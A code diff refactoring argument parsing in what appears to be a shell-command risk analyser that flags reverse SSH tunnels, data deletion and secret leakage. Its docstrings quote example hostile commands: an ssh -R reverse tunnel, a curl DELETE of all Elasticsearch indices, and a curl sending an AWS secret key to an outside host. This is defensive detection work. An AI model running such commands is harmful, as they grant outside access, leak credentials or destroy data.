@@ -28,12 +28,12 @@ from constitution.tables import byte_pattern, pattern, sign
 from constitution.tables.rows import SSH_TAKES, commands_of_ssh, own_takes, read_line
 from constitution.zones import GLOB, is_private
 
-GIT_TAKES = frozenset("-C -c --git-dir --work-tree --namespace --exec-path --config-env".split())  # noqa: SIM905
+GIT_TAKES = "-C -c --git-dir --work-tree --namespace --exec-path --config-env"
 
 
 def git(command: Command) -> Steps:
     """`git -c KEY=VALUE`, `git config KEY VALUE`, `git bisect run CMD`, `git submodule foreach CMD`."""
-    line = read_line(command.argv[1:], GIT_TAKES, to_operand=True)
+    line = command.read(GIT_TAKES, to_operand=True)
     for setting in line.value_of("-c"):
         key, _, value = setting.partition("=")
         yield from _setting(key, value)
@@ -173,8 +173,7 @@ def npm(command: Command) -> Steps:
 
 def ssh(command: Command) -> Steps:
     """`ssh -R 2222:localhost:22 HOST`: the other machine can connect back to this one."""
-    takes = [*SSH_TAKES.split(), "-M"] if command.name == "autossh" else SSH_TAKES.split()
-    line = read_line(command.argv[1:], frozenset(takes), to_operand=True)
+    line = command.read(f"{SSH_TAKES} -M" if command.name == "autossh" else SSH_TAKES, to_operand=True)
     if "-R" in line.flags or any("RemoteForward" in value for value in line.value_of("-o")):
         yield Found(Effect.REVERSE_TUNNEL, says="give another machine access to this one")
     for file in line.value_of("-F"):
@@ -203,7 +202,7 @@ LOSES = "delete data of a service"
 
 def request(command: Command) -> Steps:
     """`curl -X DELETE http://localhost:9200/_all`, `curl https://example.com/?k=$AWS_SECRET_ACCESS_KEY`."""
-    line = read_line(command.argv[1:], frozenset(["-X", "--request", "--method", "-H", "-d", "--data", "-u", "-o"]))
+    line = command.read("-X --request --method -H -d --data -u -o")
     method = "".join(line.value_of("-X", "--request", "--method")).upper()
     deletes = method == "DELETE" or (command.name in ("http", "https", "xh") and "DELETE" in command.argv)
     if any("_delete_by_query" in word for word in command.argv) or (
@@ -259,7 +258,6 @@ def talk(command: Command) -> Steps:
 
 
 FETCHED_FILE = Flow(Origin.FETCHED)
-COPY_TAKES = frozenset("-t --target-directory -S --suffix -m --mode -o --owner -g --group".split())  # noqa: SIM905
 
 
 def curl(command: Command) -> Steps:
@@ -288,7 +286,7 @@ def wget(command: Command) -> Steps:
 
 def copy(command: Command) -> Steps:
     """`cp A B`, `mv A B`, `ln A B`: the facts about A then hold for B."""
-    line = read_line(command.argv[1:], COPY_TAKES)
+    line = command.read("-t --target-directory -S --suffix -m --mode -o --owner -g --group")
     folders = line.value_of("-t", "--target-directory")
     sources, target = (line.operands, folders[0]) if folders else (line.operands[:-1], "".join(line.operands[-1:]))
     if len(line.operands) == 1 and not folders and GLOB.search(target):
@@ -310,7 +308,7 @@ def copy(command: Command) -> Steps:
 
 def tee(command: Command) -> Steps:
     """`tee FILE`: its input goes into files."""
-    for file in read_line(command.argv[1:], frozenset()).operands:
+    for file in command.read().operands:
         yield Wrote(file, command.stdin)
 
 
@@ -332,7 +330,7 @@ def clone(words: list[str]) -> Steps:
 
 def unpack(command: Command) -> Steps:
     """`tar xf FILE`, `unzip FILE`, `patch < FILE`: files in a folder come from an archive, and replace others."""
-    line = read_line(command.argv[1:], frozenset(["-f", "--file", "-C", "--directory", "-d"]))
+    line = command.read("-f --file -C --directory -d")
     files = (*line.value_of("-f", "--file"), *line.operands)
     folders = line.value_of("-C", "--directory", "-d") or (".",)
     flows = [command.content(file) for file in files] + [command.stdin]
